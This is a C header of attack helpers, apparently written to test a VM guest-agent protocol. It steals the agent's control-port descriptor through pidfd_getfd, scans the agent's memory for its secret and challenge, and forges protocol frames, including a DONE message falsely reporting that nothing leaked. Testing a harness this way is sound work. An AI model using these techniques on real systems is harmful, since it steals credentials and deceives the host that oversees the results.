/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * What an attack needs that wants to speak in the agent's place: the agent's port, its
 * secret, and the rest of a job's story.
 */
#ifndef LIE_H
#define LIE_H

#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "../../../../../guest/proto.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* What was found of the agent; in its memory the challenge comes right after START. */
struct agent_view {
	struct proto_start start;
	uint8_t challenge[PROTO_NONCE_SIZE];
};

typedef ssize_t (*peek_fn)(unsigned long at, void *to, size_t len);

static inline void say(int fd, enum proto_type type, const void *data, size_t len)
{
	struct proto_frame head = {PROTO_MAGIC, PROTO_VERSION, type, len};
	char buf[512];

	memcpy(buf, &head, sizeof(head));
	memcpy(buf + sizeof(head), data, len);
	if (write(fd, buf, sizeof(head) + len) < 0)
		perror("say");
}

static inline bool is_control(int fd)
{
	struct stat port, ours;

	return (!stat("/dev/vport0p1", &port) || !stat("/dev/vport1p1", &port)) &&
	       !fstat(fd, &ours) && S_ISCHR(ours.st_mode) && ours.st_rdev == port.st_rdev;
}

/* The agent's own descriptor of its port, or -1. */
static inline int steal_control(void)
{
	int agent = syscall(SYS_pidfd_open, 1, 0);

	for (int i = 0; i < 64; i++) {
		int fd = syscall(SYS_pidfd_getfd, agent, i, 0);

		if (fd >= 0 && is_control(fd))
			return fd;
		if (fd >= 0)
			close(fd);
	}
	perror("steal_control");
	return -1;
}

static inline bool looks_like_start(const struct proto_start *s)
{
	uint64_t now = (uint64_t)time(NULL), then = s->realtime_ns / 1000000000;

	return then + 600 > now && then < now + 600 && s->settle_ms == 10 &&
	       s->window.rows == 24 && s->window.cols == 80;
}

/* The agent is linked for a fixed place in most builds; all the first 64 MiB are tried,
 * and where its maps can be read, what they say. */
static inline unsigned long find_start(peek_fn peek, struct agent_view *ret)
{
	static char page[4096 + sizeof(struct agent_view)];

	for (unsigned long at = 0x400000; at < 0x4400000; at += 4096) {
		ssize_t n = peek(at, page, sizeof(page));

		if (n <= 0)
			n = peek(at, page, 4096);
		for (ssize_t i = 0; i + (ssize_t)sizeof(*ret) <= n; i += 8) {
			memcpy(ret, page + i, sizeof(*ret));
			if (looks_like_start(&ret->start))
				return at + i;
		}
	}
	fprintf(stderr, "find_start: %s\n", strerror(errno));
	return 0;
}

static inline void unload(void)
{
	if (syscall(SYS_delete_module, "leaky", O_NONBLOCK) < 0)
		perror("unload");
}

/* The host answers the last phase: read by us, or by the agent, in whose memory it is
 * then. */
static inline void get_challenge(int fd, peek_fn peek, unsigned long at, uint8_t *ret)
{
	static const uint8_t none[PROTO_NONCE_SIZE];
	char buf[sizeof(struct proto_frame) + PROTO_NONCE_SIZE];
	struct agent_view view;

	for (int i = 0; i < 2000; i++) {
		if (read(fd, buf, sizeof(buf)) == sizeof(buf)) {
			memcpy(ret, buf + sizeof(struct proto_frame), PROTO_NONCE_SIZE);
			return;
		}
		if (peek && peek(at, &view, sizeof(view)) == sizeof(view) &&
		    memcmp(view.challenge, none, sizeof(none))) {
			memcpy(ret, view.challenge, PROTO_NONCE_SIZE);
			return;
		}
		usleep(1000);
	}
}

/* Everything from the end of the command to the end of the job: nothing was left. */
static inline void lie(int fd, const struct proto_start *start, peek_fn peek,
		       unsigned long at)
{
	static const uint32_t unloading = PROTO_PHASE_UNLOAD, leak = PROTO_PHASE_LEAK;
	static const struct proto_command command;
	struct proto_done done = {.log_lost = 0};

	say(fd, PROTO_COMMAND, &command, sizeof(command));
	say(fd, PROTO_PHASE, &unloading, sizeof(unloading));
	say(fd, PROTO_PHASE, &leak, sizeof(leak));
	get_challenge(fd, peek, at, done.challenge);
	memcpy(done.secret, start->secret, sizeof(done.secret));
	say(fd, PROTO_DONE, &done, sizeof(done));
	sleep(5); /* the agent must not speak again before the host has believed it */
}

/* All at once, for whoever can read the agent's memory. */
static inline void lie_with(peek_fn peek)
{
	struct agent_view view;
	unsigned long at = find_start(peek, &view);
	int fd = steal_control();

	if (fd >= 0)
		lie(fd, &view.start, peek, at);
}

#endif
